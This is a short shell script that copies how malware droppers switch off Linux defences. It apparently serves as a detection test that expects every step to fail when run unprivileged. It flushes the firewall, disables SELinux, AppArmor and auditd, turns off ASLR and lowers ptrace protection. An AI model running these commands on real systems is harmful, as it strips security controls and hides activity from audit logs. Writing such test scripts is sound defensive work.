#!/bin/sh
# Turning the host's defences off the way droppers do it: flush the firewall, SELinux and
# AppArmor off, auditing off, the audit and firewall services stopped, ASLR off through
# sysctl. Run unprivileged (and where most tools are not installed) every step fails; the
# attempts are the findings.
iptables -F
ufw disable
setenforce 0
aa-teardown
auditctl -e 0
systemctl stop auditd
service apparmor stop
sysctl -w kernel.randomize_va_space=0
echo 0 > /proc/sys/kernel/yama/ptrace_scope
